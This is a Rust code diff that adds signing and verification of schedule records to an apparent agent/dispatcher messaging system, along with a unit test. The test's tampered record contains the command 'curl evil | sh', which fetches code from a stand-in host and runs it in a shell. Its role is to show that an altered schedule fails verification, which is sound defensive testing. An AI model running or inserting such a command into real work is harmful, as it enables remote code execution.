@@ -13,7 +13,9 @@
 //!   answer's covers [`ANSWER_CONTEXT`], the message id of the request it answers, and its body, so
 //!   an old answer replayed to another request does not verify. A presence announcement's covers
 //!   [`ANNOUNCEMENT_CONTEXT`] and its body, which holds the agent's id and the time it announced,
-//!   so a copy replayed later still says that old time (and drops out with it).
+//!   so a copy replayed later still says that old time (and drops out with it). A schedule's
+//!   (`dispatcher schedule`) covers [`SCHEDULE_CONTEXT`] and its record as the journal keeps it, so
+//!   no signature of a command, answer or announcement is one of a schedule, nor the reverse.
 //! - [`check_command_seal`] and [`check_command_header`] are the agent's decisions,
 //!   [`check_answer`] and [`check_announcement`] the dispatcher's: plain functions, no I/O.
 //! - [`TrustedKeys`] (the agent's `--trusted-keys` file) and [`KnownAgents`] (the dispatcher's
@@ -41,6 +43,8 @@ pub const COMMAND_CONTEXT: &[u8] = b"cuttle command v1\0";
 pub const ANSWER_CONTEXT: &[u8] = b"cuttle answer v1\0";
 /// What a presence announcement's signature covers before its body.
 pub const ANNOUNCEMENT_CONTEXT: &[u8] = b"cuttle announcement v1\0";
+/// What a schedule's signature covers before its record (the service's journal keeps both).
+pub const SCHEDULE_CONTEXT: &[u8] = b"cuttle schedule v1\0";
 /// AMQP header carrying the signing key's id (hex).
 pub const KEY_HEADER: &str = "cuttle-key";
 /// AMQP header carrying the signature (base64 of 64 bytes).
@@ -265,6 +269,11 @@ impl SecretKey {
         self.seal(&announcement_parts(body).concat())
     }
 
+    /// Seals a schedule whose record, as the journal keeps it, is `record`.
+    pub fn seal_schedule(&self, record: &[u8]) -> Seal {
+        self.seal(&schedule_parts(record).concat())
+    }
+
     fn seal(&self, message: &[u8]) -> Seal {
         Seal::Signature { key: self.public.id, signature: self.key.sign(message).to_bytes() }
     }
@@ -284,6 +293,11 @@ pub(crate) fn answer_parts<'a>(request_id: &'a str, body: &'a [u8]) -> [&'a [u8]
 /// What a presence announcement's signature covers, in order.
 fn announcement_parts(body: &[u8]) -> [&[u8]; 2] {
     [ANNOUNCEMENT_CONTEXT, body]
+}
+
+/// What a schedule's signature covers, in order.
+fn schedule_parts(record: &[u8]) -> [&[u8]; 2] {
+    [SCHEDULE_CONTEXT, record]
 }
 
 /// Reads a whole (small) text file, naming it in the error.
@@ -743,6 +757,17 @@ pub fn check_announcement(pin: &Pin, seal: Result<Option<Seal>, String>, body: &
     check_pinned(pin, seal, &announcement_parts(body))
 }
 
+/// The service's check of a schedule before one of its slots runs: `seal` is a signature by
+/// `key` (the service's own) over `record`, exactly as it was signed. A schedule changed in the
+/// journal by anyone without the key, or signed by another key, does not pass.
+pub fn check_schedule(key: &PublicKey, seal: Result<Option<Seal>, String>, record: &[u8]) -> Result<KeyId, Forged> {
+    match check_pinned(&Pin::Keys(vec![*key]), seal, &schedule_parts(record))? {
+        Believed::Key(key) => Ok(key),
+        // Only a legacy pin believes unsigned messages, and this pin is a key.
+        Believed::Legacy => Err(Forged::Unsigned),
+    }
+}
+
 /// Whether `seal` is by a key of `pin` over `message`, the concatenation of its parts (never made).
 fn check_pinned(pin: &Pin, seal: Result<Option<Seal>, String>, message: &[&[u8]]) -> Result<Believed, Forged> {
     let keys = match pin {
@@ -819,6 +844,27 @@ mod tests {
     }
 
     const ME: Identity<'static> = Identity { agent_id: "web-01", pool: Some("workers") };
+
+    #[test]
+    fn a_schedules_signature_covers_its_whole_record_and_is_no_commands() {
+        let (service, other) = (key(7), key(8));
+        let record = br#"{"name":"rotate-logs","cron":"0 2 * * *","script":"logrotate"}"#;
+        let seal = service.seal_schedule(record);
+        assert_eq!(check_schedule(service.public(), Ok(Some(seal.clone())), record).unwrap(), service.id());
+        let changed = br#"{"name":"rotate-logs","cron":"0 2 * * *","script":"curl evil | sh"}"#;
+        assert!(matches!(
+            check_schedule(service.public(), Ok(Some(seal.clone())), changed),
+            Err(Forged::BadSignature(_))
+        ));
+        let by_other = other.seal_schedule(record);
+        assert!(matches!(check_schedule(service.public(), Ok(Some(by_other)), record), Err(Forged::UnpinnedKey(_))));
+        assert!(matches!(check_schedule(service.public(), Ok(None), record), Err(Forged::Unsigned)));
+        // A command's signature over the same bytes is not a schedule's, nor the reverse.
+        let command = service.seal_command(record);
+        assert!(check_schedule(service.public(), Ok(Some(command)), record).is_err());
+        let trusted = TrustedKeys::of([*service.public()]);
+        assert!(check_command_seal(&trusted, false, Ok(Some(seal)), record, None).is_err());
+    }
 
     #[test]
     fn a_signature_is_verified_over_the_parts_as_over_their_concatenation() {
